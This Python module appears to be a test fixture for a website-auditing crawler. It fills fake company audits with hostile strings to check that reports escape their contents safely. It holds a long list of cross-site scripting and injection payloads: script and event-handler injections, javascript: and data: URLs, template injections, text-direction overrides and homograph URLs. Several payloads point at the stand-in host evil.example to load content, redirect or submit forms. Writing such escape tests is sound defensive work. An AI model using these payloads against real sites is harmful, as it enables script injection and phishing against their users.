"""Companies whose every text, wherever a report can show it, tries to do something."""

from dataclasses import replace

from hostile import HOSTILE
from made_audits import UNKNOWN, audit, email, form, phone

from crawler.model import Channel, PageVisit, Reason, Sighting, Signal, Site, SiteAudit, Status, Step
from crawler.page.signals.names import NAMES

RUN_SCRIPT = "window.ran=1;alert(1)"
MARKUP = {
    "script": f"<script>{RUN_SCRIPT}</script>",
    "end of script": f"</script><script>{RUN_SCRIPT}</script>",
    "end of script in capitals": f"</SCRIPT ><svg onload={RUN_SCRIPT}>",
    "comment in script": f"<!--<script>{RUN_SCRIPT}//-->",
    "end of style": f"</style><script>{RUN_SCRIPT}</script><style>*{{display:none}}",
    "end of title": f"</title></head><body onload={RUN_SCRIPT}>",
    "picture": f"<img src=x onerror={RUN_SCRIPT}>",
    "picture from elsewhere": "<img src=http://evil.example/seen.png>",
    "style from elsewhere": "<link rel=stylesheet href=http://evil.example/s.css>",
    "style import": "<style>@import url(http://evil.example/s.css)</style>",
    "frame": "<iframe src=http://evil.example/></iframe>",
    "frame with a document": f"<iframe srcdoc='<script>parent.{RUN_SCRIPT}</script>'>",
    "object": "<object data=http://evil.example/x.swf></object>",
    "refresh": '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "base": "<base href=http://evil.example/>",
    "form": f"<form action=http://evil.example/><button formaction=javascript:{RUN_SCRIPT}>x",
    "svg": f"<svg><animate onbegin={RUN_SCRIPT} attributeName=x dur=1s>",
    "mathml": f'<math><mtext><table><mglyph><style><img src onerror="{RUN_SCRIPT}">',
    "details": f"<details open ontoggle={RUN_SCRIPT}>",
    "quote and attribute": f'" autofocus onfocus="{RUN_SCRIPT}" x="',
    "apostrophe and attribute": f"' onmouseover='{RUN_SCRIPT}' x='",
    "backquote": f"` onmouseover={RUN_SCRIPT} `",
    "javascript address": f"javascript:{RUN_SCRIPT}",
    "javascript address in disguise": f"JaVa\tScRiPt:{RUN_SCRIPT}//http://x",
    "vbscript address": "vbscript:msgbox(1)",
    "data address": f"data:text/html,<script>parent.{RUN_SCRIPT}</script>",
    "template": "{{7*7}}${7*7}#{7*7}<%=7*7%>{% raw %}",
    "template of the page": "{count}{constructor}{__proto__}%(name)s%s",
    "template that runs": "{{constructor.constructor('" + RUN_SCRIPT + "')()}}",
    "entities": "&lt;script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "overlong entity": "&#x3c;script&#x3e;" + RUN_SCRIPT,
    "backslashes": f"\\u003cscript\\u003e{RUN_SCRIPT}\\",
    "json": '"],"rows":[],"x":["',
    "prototype": "__proto__",
    "line separators": f"a\u2028{RUN_SCRIPT}\u2029b",
    "override": "\u202egpj.exe\u202c",
    "homograph": "https://www.аррӏе.example/",
    "user in the address": "https://www.firma.example@evil.example/",
    "long": "W" * 10_000,
    "long markup": "<b>" * 4_000,
    "css": "x:expression(alert(1));background:url(http://evil.example/)",
    "hash": f"#site=x&search=<script>{RUN_SCRIPT}</script>",
}
TEXTS = {**MARKUP, **{f"other {name}": text for name, text in HOSTILE.items()}}


def company(text: str, number: int) -> SiteAudit:
    """A company that has `text` wherever a text from outside can come to stand."""
    address = text if ":" in text[:12] else f"https://site-{number}.example/{text}"
    path = (Step(f"https://site-{number}.example/", None), Step(address, text))
    call = replace(phone(text, text), as_written=text, owner_reason=text, label=text)
    write = replace(email(text), as_written=text, excerpt=text)
    fill = replace(form(), provider=text, captcha=text, action=text, url=address, excerpt=text, reason=text)
    channels = [
        Channel(Status.FOUND, clicks=1, exact=True, value=value, path=path, reason=text,
                findings=(Sighting(finding, address, 1), Sighting(replace(finding, **other), address, 1)))
        for finding, value, other in ((call, text, {"value": "+46846500400"}), (write, text, {}), (fill, address, {}))
    ]  # fmt: skip
    made = audit(
        Site(address, name=text, country="SE", sector=text, id=text, extra={text or "x": text}),
        phone=channels[0], email=channels[1], form=channels[2], final_url=f"{address}/x",
        pages=(PageVisit(address, 0), PageVisit(address, 1, Reason.BLOCKED, text), PageVisit(text, 1, detail=text, dead=True)),
        notes=(text, text), signals=tuple(
            Signal(name, Status.FOUND, value=text, page=address, clicks=1, excerpt=text, detail={"of": text, "osm": True})
            for name in NAMES
        ),
    )  # fmt: skip
    return replace(made, version=text[:60])


def unseen(text: str, number: int) -> SiteAudit:
    """A company of which nothing could be seen, for a hostile reason."""
    made = audit(Site(f"https://unseen-{number}.example/", name=text, sector=text), reason=Reason.BLOCKED)
    lost = replace(UNKNOWN, reason=f"blocked: {text}")
    return replace(
        made, phone=lost, email=lost, form=lost, pages=(PageVisit(made.site.url, 0, Reason.BLOCKED, text),)
    )


AUDITS = [company(text, number) for number, text in enumerate(TEXTS.values())]
AUDITS += [unseen(text, number) for number, text in enumerate(MARKUP.values())]
